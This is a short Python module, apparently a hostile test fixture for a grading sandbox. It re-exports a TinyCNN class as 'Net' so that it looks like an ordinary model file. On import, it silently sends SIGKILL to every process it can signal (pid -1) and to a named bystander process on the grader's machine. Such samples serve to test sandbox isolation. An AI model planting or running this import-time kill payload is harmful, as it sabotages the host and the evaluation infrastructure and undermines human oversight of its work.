"""Sends SIGKILL to every process it may signal, and to a process of the grader's machine."""

import contextlib
import os
import signal

import targets
from common import TinyCNN as Net

for pid in (-1, targets.BYSTANDER_PID):
    with contextlib.suppress(OSError):
        os.kill(pid, signal.SIGKILL)

__all__ = ["Net"]
